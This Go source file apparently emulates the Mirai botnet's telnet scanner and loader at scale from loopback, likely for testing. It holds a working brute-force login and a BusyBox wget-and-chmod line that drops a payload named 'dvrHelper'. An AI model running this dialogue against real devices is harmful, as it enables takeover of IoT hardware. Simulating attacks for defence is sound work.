package main

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"time"
)

// Telnet protocol bytes (RFC 854) and the one option a Mirai bot answers
// with data (NAWS, RFC 1073).
const (
	tSE   = 240
	tSB   = 250
	tWILL = 251
	tWONT = 252
	tDO   = 253
	tDONT = 254
	tIAC  = 255
	oNAWS = 31
)

// Parser states for the byte stream coming from the server.
const (
	psData = iota
	psIAC
	psVerb
	psSB
	psSBIAC
)

// Buffer sizes: small on purpose, 10,000+ clients live in this process.
const (
	readBufSize = 1024
	maxKeep     = 16 << 10 // cleaned output kept while waiting for a string
)

// stepError names the step of the dialogue that failed, for the error table.
type stepError struct {
	step string
	err  error
}

func (e *stepError) Error() string { return e.step + ": " + e.err.Error() }
func (e *stepError) Unwrap() error { return e.err }

// errorClass reduces an error to a short, low-cardinality label.
func errorClass(err error) string {
	var se *stepError
	step := "?"
	if errors.As(err, &se) {
		step = se.step
		err = se.err
	}
	var ne net.Error
	switch {
	case errors.Is(err, io.EOF):
		return step + ": closed by server"
	case errors.Is(err, context.DeadlineExceeded), errors.As(err, &ne) && ne.Timeout():
		return step + ": timeout"
	case errors.Is(err, errMismatch):
		return step + ": unexpected output"
	default:
		var oe *net.OpError
		if errors.As(err, &oe) && oe.Err != nil {
			return step + ": " + oe.Op + ": " + oe.Err.Error()
		}
		return step + ": " + err.Error()
	}
}

var errMismatch = errors.New("unexpected output")

// tclient is a minimal telnet client that behaves like Mirai's scanner and
// loader: it answers DO NAWS with WILL NAWS and a window size, refuses every
// other DO, accepts every WILL, strips all commands from the data it keeps,
// and waits for strings with a deadline.
type tclient struct {
	conn     *net.TCPConn
	rbuf     []byte // raw reads
	data     []byte // cleaned output not consumed yet
	reply    []byte // pending negotiation replies
	state    uint8
	verb     byte
	deadline time.Time // hard deadline for the whole session
	step     time.Duration
}

// dialTelnet connects from local (a loopback source address) to addr.
func dialTelnet(ctx context.Context, local *net.TCPAddr, addr string, stepTimeout time.Duration, hard time.Time) (*tclient, error) {
	d := net.Dialer{LocalAddr: local, Timeout: stepTimeout, Deadline: hard}
	c, err := d.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, &stepError{"dial", err}
	}
	tc := c.(*net.TCPConn)
	// Small kernel buffers: the dialogue is a few hundred bytes each way.
	_ = tc.SetReadBuffer(8 << 10)
	_ = tc.SetWriteBuffer(8 << 10)
	return &tclient{conn: tc, rbuf: make([]byte, readBufSize), deadline: hard, step: stepTimeout}, nil
}

func (t *tclient) stepDeadline() time.Time {
	d := time.Now().Add(t.step)
	if d.After(t.deadline) {
		d = t.deadline
	}
	return d
}

// feed strips telnet commands from p into t.data and queues the answers.
func (t *tclient) feed(p []byte) {
	for _, b := range p {
		switch t.state {
		case psData:
			if b == tIAC {
				t.state = psIAC
				continue
			}
			t.data = append(t.data, b)
		case psIAC:
			switch b {
			case tIAC:
				t.data = append(t.data, tIAC)
				t.state = psData
			case tWILL, tWONT, tDO, tDONT:
				t.verb = b
				t.state = psVerb
			case tSB:
				t.state = psSB
			default: // NOP, GA, ...: a two-byte command
				t.state = psData
			}
		case psVerb:
			switch {
			case t.verb == tDO && b == oNAWS:
				t.reply = append(t.reply, tIAC, tWILL, oNAWS, tIAC, tSB, oNAWS, 0, 80, 0, 24, tIAC, tSE)
			case t.verb == tDO:
				t.reply = append(t.reply, tIAC, tWONT, b)
			case t.verb == tWILL:
				t.reply = append(t.reply, tIAC, tDO, b)
			}
			t.state = psData
		case psSB:
			if b == tIAC {
				t.state = psSBIAC
			}
		case psSBIAC:
			if b == tSE {
				t.state = psData
			} else {
				t.state = psSB
			}
		}
	}
	if len(t.data) > maxKeep {
		// Keep only the tail: a wanted string is short.
		n := copy(t.data, t.data[len(t.data)-256:])
		t.data = t.data[:n]
	}
}

// flushReplies writes pending negotiation answers.
func (t *tclient) flushReplies() error {
	if len(t.reply) == 0 {
		return nil
	}
	_ = t.conn.SetWriteDeadline(t.stepDeadline())
	_, err := t.conn.Write(t.reply)
	t.reply = t.reply[:0]
	return err
}

// expect reads until the cleaned output contains want, and consumes the
// output up to and including it.
func (t *tclient) expect(step, want string) error {
	w := []byte(want)
	dl := t.stepDeadline()
	for {
		if i := bytes.Index(t.data, w); i >= 0 {
			n := copy(t.data, t.data[i+len(w):])
			t.data = t.data[:n]
			return nil
		}
		_ = t.conn.SetReadDeadline(dl)
		n, err := t.conn.Read(t.rbuf)
		if n > 0 {
			t.feed(t.rbuf[:n])
			if werr := t.flushReplies(); werr != nil && err == nil {
				err = werr
			}
		}
		if err != nil {
			if i := bytes.Index(t.data, w); i >= 0 {
				t.data = t.data[:0]
				return nil
			}
			return &stepError{step, err}
		}
	}
}

// send writes one command line with Mirai's CR LF.
func (t *tclient) send(step, line string) error {
	_ = t.conn.SetWriteDeadline(t.stepDeadline())
	b := make([]byte, 0, len(line)+2)
	b = append(append(b, line...), '\r', '\n')
	if _, err := t.conn.Write(b); err != nil {
		return &stepError{step, err}
	}
	return nil
}

// cmd sends line and waits for want.
func (t *tclient) cmd(step, line, want string) error {
	if err := t.send(step, line); err != nil {
		return err
	}
	return t.expect(step, want)
}

// login plays the scanner's brute force with a pair that is in Mirai's table
// and waits for the shell prompt.
func (t *tclient) login(user, pass string) error {
	if err := t.expect("login prompt", "ogin: "); err != nil {
		return err
	}
	if err := t.cmd("password prompt", user, "assword: "); err != nil {
		return err
	}
	return t.cmd("shell prompt", pass, "# ")
}

// release drops the buffers of an idle held session.
func (t *tclient) release() {
	t.rbuf, t.data, t.reply = nil, nil, nil
}

func (t *tclient) Close() error { return t.conn.Close() }

// miraiSession runs the whole dialogue of Mirai's scanner and loader on a
// logged-in client: escape to a shell, check for BusyBox, read the mounts,
// test a writable directory, fetch the bot with wget (to a unique URL), and
// hang up.
func (t *tclient) miraiSession(payloadURL string) error {
	for _, c := range []string{"enable", "system", "shell", "sh"} {
		if err := t.cmd(c, c, "# "); err != nil {
			return err
		}
	}
	steps := []struct{ name, line, want string }{
		{"busybox check", "/bin/busybox ECCHI", "ECCHI: applet not found"},
		{"mounts", "/bin/busybox cat /proc/mounts; /bin/busybox ECCHI", "ECCHI: applet not found"},
		{"kami", `/bin/busybox echo -e '\x6b\x61\x6d\x69' > /tmp/.nippon; /bin/busybox cat /tmp/.nippon; /bin/busybox rm /tmp/.nippon`, "kami"},
		{"wget", fmt.Sprintf("/bin/busybox wget %s -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI", payloadURL), "ECCHI: applet not found"},
	}
	for _, s := range steps {
		if err := t.cmd(s.name, s.line, s.want); err != nil {
			return err
		}
	}
	// Mirai's loader hangs up when it is done (its "sh" left a nested shell
	// that a single exit would not leave).
	return t.Close()
}
